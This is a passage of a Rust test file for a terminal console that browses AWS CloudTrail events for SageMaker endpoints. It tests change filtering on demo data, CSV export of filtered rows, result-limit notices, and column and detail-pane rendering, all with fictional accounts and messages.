    assert!(c.contains(&"event:UpdateEndpoint".to_owned()), "{c:?}");
    let c = crate::app::commands::completions(&s, "trail account:st");
    assert!(c.contains(&"account:staging".to_owned()), "{c:?}");
}

/// `c` on the demo's prod fraud-detector, through the console's own path to its filter and
/// the demo's trail: only events on that endpoint's resources, each named exactly (not
/// staging's fraud-detector-stg, not another account's test-fraud-detector-canary alarm).
#[test]
fn what_changed_on_the_demo_lists_only_the_endpoints_own_resources() {
    use crate::app::update::init;
    use crate::app::worker::execute;
    use crate::config::{Env, Overrides, load};
    use crate::source::demo::DemoSource;
    use crate::source::model::EndpointKey;
    use crate::source::trail::TrailQuery;
    use crate::source::{FleetSource, SourceKind};
    use futures::executor::block_on;
    use std::sync::Arc;

    const START: i64 = 1_795_687_200; // 2026-11-26T10:00:00Z
    const NOW: i64 = START + 360;
    let source = DemoSource::pinned(7, START, NOW);
    let settings = load(&Overrides::default(), &Env::default()).unwrap();
    let mut s = State::new(
        SourceKind::Demo,
        NOW,
        settings.theme,
        Arc::new(settings.keymap),
    );
    s.placement = source.placement();
    let mut commands = init(&mut s);
    while let Some(c) = commands.pop() {
        let action = block_on(execute(&source, None, c));
        commands.extend(update(&mut s, action).commands);
    }
    let key = EndpointKey {
        account_id: "111111111111".into(),
        name: "fraud-detector".into(),
        region: Default::default(),
    };
    assert!(s.endpoint(&key).is_some(), "the fleet is loaded");
    // What it is made of now: alice's release.
    let makeup = block_on(source.endpoint_makeup(&key)).unwrap();
    assert_eq!(makeup.config, crate::source::demo::INCIDENT_CONFIG);
    assert_eq!(makeup.models, [crate::source::demo::INCIDENT_MODEL]);
    let text = super::changes::filter_for(&s, &key, START - 3 * 86_400, Some(&makeup));
    let filter = crate::trail::filter::parse(&text).unwrap();
    let names: Vec<String> = filter.resources.iter().map(|r| r.typed()).collect();
    assert!(
        names
            .iter()
            .all(|n| !n.contains("canary") && !n.ends_with("-stg")),
        "{names:?}"
    );
    let ids: Vec<String> = text
        .split_whitespace()
        .find_map(|w| w.strip_prefix("account:"))
        .unwrap()
        .split(',')
        .map(str::to_owned)
        .collect();
    let trail = source.trail().unwrap();
    let search = |search: Search, token: &str| {
        let q = TrailQuery {
            sql: String::new(),
            search,
            token: token.into(),
        };
        let id = block_on(trail.start(&q)).unwrap();
        block_on(trail.status(&id)).unwrap();
        block_on(trail.page(&id, None, true)).unwrap()
    };
    let page = search(
        Search::Filter {
            filter: Box::new(filter),
            accounts: ids,
            from: START - 3 * 86_400,
            to: NOW,
            limit: 500,
        },
        "changes",
    );
    let col = |name: &str| page.columns.iter().position(|c| c == name).unwrap();
    let (time, event, id) = (col("eventtime"), col("eventname"), col("eventid"));
    assert!(
        page.rows
            .iter()
            .any(|r| r[event].as_deref() == Some("UpdateEndpoint")),
        "alice's update is among them"
    );
    for made in ["CreateEndpointConfig", "CreateModel"] {
        let found = page.rows.iter().any(|r| r[event].as_deref() == Some(made));
        assert!(found, "the {made} that the update deployed");
    }
    // Every event names one of the endpoint's resources exactly, as a value or an ARN.
    for (k, r) in page.rows.iter().enumerate() {
        let at = chrono::DateTime::parse_from_rfc3339(r[time].as_deref().unwrap())
            .unwrap()
            .timestamp();
        let detail = search(
            Search::Event {
                event_id: r[id].clone().unwrap(),
                time: at,
            },
            &format!("detail-{k}"),
        );
        let cell = |name: &str| {
            let i = detail.columns.iter().position(|c| c == name).unwrap();
            detail.rows[0][i].clone().unwrap_or_default()
        };
        let text = format!("{} {}", cell("requestparameters"), cell("responseelements"));
        assert!(
            !text.contains("canary") && !text.contains("fraud-detector-stg"),
            "{:?}: {text}",
            r[event]
        );
        let strings: Vec<String> = text
            .split('"')
            .skip(1)
            .step_by(2)
            .map(str::to_owned)
            .collect();
        assert!(
            strings.iter().any(|v| names
                .iter()
                .any(|n| v == n || v.ends_with(&format!("/{n}")) || v.ends_with(&format!(":{n}")))),
            "{:?} names none of {names:?}: {text}",
            r[event]
        );
    }
}

/// `:export` writes what is shown: with a `/` filter, the rows it keeps, said as so many
/// of so many.
#[test]
fn export_writes_the_rows_the_filter_shows_and_says_of_how_many() {
    use crate::views::ViewModule;
    let mut s = state();
    with_rows(&mut s);
    super::Trail.set_filter(&mut s, "updateendpoint");
    assert_eq!(s.views.trail.results.visible_len(), 1);
    let cmds = run(&mut s, "export csv /tmp/x.csv");
    let [Command::Export(job)] = &cmds[..] else {
        panic!("{cmds:?}")
    };
    assert_eq!(job.rows.len(), 1, "{:?}", job.rows);
    assert_eq!(job.rows.to_vecs()[0][3].as_deref(), Some("UpdateEndpoint"));
    assert_eq!(job.of, Some(2));
    // The rows are the view's own, shared with the worker that writes them: not a copy.
    let shared = job
        .rows
        .source()
        .downcast_ref::<super::results::ShownRows>();
    assert!(
        shared.is_some_and(|rows| rows.shares(&s.views.trail.results)),
        "{:?}",
        job.rows
    );
    update(
        &mut s,
        Action::Loaded(Box::new(Loaded::Exported(Ok((
            "/tmp/x.csv".into(),
            1,
            job.of,
        ))))),
    );
    let said = &s.flash.as_ref().unwrap().text;
    assert_eq!(
        said,
        "exported 1 of 2 rows (those the / filter shows) to /tmp/x.csv"
    );
    // Without a filter: every row, said plainly.
    super::Trail.set_filter(&mut s, "");
    let cmds = run(&mut s, "export csv /tmp/y.csv");
    let [Command::Export(job)] = &cmds[..] else {
        panic!("{cmds:?}")
    };
    assert_eq!((job.rows.len(), job.of), (2, None));
    // A filter keeping nothing exports nothing, and says why.
    super::Trail.set_filter(&mut s, "no such text");
    let cmds = run(&mut s, "export csv /tmp/z.csv");
    assert!(cmds.is_empty(), "{cmds:?}");
    assert!(
        s.flash.as_ref().unwrap().text.contains("shows none of 2"),
        "{:?}",
        s.flash
    );
}

/// A result as long as the query's LIMIT says that more may match, and what to do.
#[test]
fn a_result_that_reaches_the_limit_says_so() {
    let mut s = state();
    if let Some(Ok(settings)) = &mut s.views.trail.available {
        settings.limit = 2;
    }
    with_rows(&mut s);
    let screen = crate::ui::tests::plain(&crate::ui::tests::render(&s, 160, 48));
    assert!(
        screen.contains("2 rows: the limit; narrow the search or raise [trail] limit"),
        "{screen}"
    );
    // Under the limit, the count alone.
    let mut s = state();
    with_rows(&mut s);
    let q = s.views.trail.query.as_ref().unwrap();
    assert_eq!(q.limit, Some(500));
    let text = super::progress_text(q, 2, s.now);
    assert!(text.ends_with("· 2 rows"), "{text}");
    // Raw SQL: its own LIMIT.
    let sql = "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" BETWEEN '2026/11/24' AND '2026/11/25' LIMIT 2";
    run(&mut s, &format!("sql {sql}"));
    let q = s.views.trail.query.as_ref().unwrap();
    assert_eq!(q.sql, sql);
    assert_eq!(q.limit, Some(2));
}

/// Loads one page of `columns` and `rows` as the answer to a search just started.
fn answered(s: &mut State, columns: &[&str], rows: Vec<Vec<Option<String>>>) {
    let t = token(s);
    let columns = columns.iter().map(|c| (*c).to_owned()).collect();
    let page = ResultPage {
        columns,
        rows,
        next: None,
    };
    answer(s, t, Box::new(page));
}

/// The query of token `t` started, succeeded, and answered `page`.
fn answer(s: &mut State, t: String, page: Box<ResultPage>) {
    for l in [
        TrailLoaded::Started {
            token: t.clone(),
            result: Ok("q-1".into()),
        },
        TrailLoaded::Status {
            token: t.clone(),
            result: Ok(status(QueryState::Succeeded, 1)),
        },
        TrailLoaded::Page {
            token: t,
            result: Ok(page),
        },
    ] {
        loaded(s, l);
    }
}

fn screen(s: &State, w: u16, h: u16) -> String {
    crate::ui::tests::plain(&crate::ui::tests::render(s, w, h))
}

/// The cells that identify an event are whole at 160 columns (the event's name, the
/// principal's session), and source, region and address show when there is room.
#[test]
fn an_events_identifying_cells_are_whole_and_the_rest_come_with_room() {
    let mut s = state();
    run(&mut s, "trail event:UpdateEndpointWeightsAndCapacities");
    let mut row = event(1, "UpdateEndpointWeightsAndCapacities");
    row[2] = Some("arn:aws:sts::210987654321:assumed-role/ml-deployer/alice".into());
    row[6] = Some("AccessDenied".into());
    row[7] = Some("10.8.30.12".into());
    answered(&mut s, &COLUMNS, vec![row]);
    let wide = screen(&s, 160, 48);
    assert!(
        wide.contains("UpdateEndpointWeightsAndCapacities") && wide.contains("ml-deployer/alice"),
        "{wide}"
    );
    assert!(
        wide.contains("AccessDenied") && wide.contains("SOURCE"),
        "{wide}"
    );
    let wider = screen(&s, 200, 60);
    for text in ["SOURCE", "REGION", "SOURCE IP", "eu-west-1", "10.8.30.12"] {
        assert!(wider.contains(text), "{text}: {wider}");
    }
    // At 80 columns the principal keeps its end: who.
    let narrow = screen(&s, 80, 24);
    assert!(narrow.contains("deployer/alice"), "{narrow}");
}

/// Raw SQL with one column: the column takes the width.
#[test]
fn a_lone_column_takes_the_width() {
    let mut s = state();
    run(
        &mut s,
        "sql SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/25'",
    );
    answered(
        &mut s,
        &["eventname"],
        vec![
            vec![Some("CreateProcessingJob".into())],
            vec![Some("UpdateEndpointWeightsAndCapacities".into())],
        ],
    );
    let screen = screen(&s, 160, 48);
    assert!(
        screen.contains("CreateProcessingJob")
            && screen.contains("UpdateEndpointWeightsAndCapacities"),
        "{screen}"
    );
}

/// An event's long values wrap in its detail, and scroll: the whole error message can be
/// read at 80 columns.
#[test]
fn the_detail_wraps_long_values_and_scrolls() {
    let mut s = state();
    with_rows(&mut s);
    let cmds = update(&mut s, Action::Select).commands;
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds.first() else {
        panic!("{cmds:?}")
    };
    let t = q.token.clone();
    let message = "User: arn:aws:sts::210987654321:assumed-role/OnCall/dave@example.com is not \
                   authorized to perform: sagemaker:UpdateEndpointWeightsAndCapacities on \
                   resource: arn:aws:sagemaker:eu-west-1:210987654321:endpoint/churn-predictor-stg \
                   because no identity-based policy allows the \
                   sagemaker:UpdateEndpointWeightsAndCapacities action";
    let mut params = serde_json::Map::new();
    for i in 0..30 {
        params.insert(format!("key{i:02}"), format!("value-{i}").into());
    }
    let page = ResultPage {
        columns: vec![
            "eventid".into(),
            "errormessage".into(),
            "requestparameters".into(),
        ],
        rows: vec![vec![
            Some("id-1".into()),
            Some(message.into()),
            Some(serde_json::Value::Object(params).to_string()),
        ]],
        next: None,
    };
    answer(&mut s, t, Box::new(page));
    // The whole message is on screen, over the wrapped lines (spaces aside: a long ARN
    // breaks where the line ends).
    let first = screen(&s, 80, 24);
    let joined: String = first
        .lines()
        .map(|l| l.trim_matches(|c| c == '│' || c == ' '))
        .collect::<String>()
        .split_whitespace()
        .collect();
    let wanted: String = format!("error: {message}").split_whitespace().collect();
    assert!(joined.contains(&wanted), "{first}");
    assert!(first.contains('↓'), "more below is said: {first}");
    // The JSON below is reached by scrolling, to its end.
    s.size = (80, 24);
    for _ in 0..60 {
        update(&mut s, Action::MoveDown);
    }
    let last = screen(&s, 80, 24);
    assert!(last.contains("\"key29\": \"value-29\""), "{last}");
    assert!(!last.contains('↓') && last.contains('↑'), "{last}");
    // Past the end, the way back starts at once: one line up shows one more below.
    update(&mut s, Action::MoveUp);
    let back = screen(&s, 80, 24);
    assert!(back.contains("↓1 "), "{back}");
}
